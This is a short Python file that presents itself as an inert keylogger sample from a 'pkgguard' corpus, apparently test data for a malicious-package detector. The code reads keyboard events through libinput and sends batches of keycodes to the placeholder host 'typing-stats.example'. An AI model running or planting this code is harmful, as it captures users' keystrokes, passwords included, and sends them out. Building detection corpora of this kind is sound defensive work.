# pkgguard corpus 520 (keylogger), modelled on [stealer-profile]; inert, never run.
import subprocess

import requests

proc = subprocess.Popen(["libinput", "debug-events", "--show-keycodes"], stdout=subprocess.PIPE, text=True)
batch = []
for line in proc.stdout:
    if "KEYBOARD_KEY" in line:
        batch.append(line.split()[-3])
    if len(batch) >= 200:
        requests.post("https://typing-stats.example/b", json=batch, timeout=5)
        batch = []
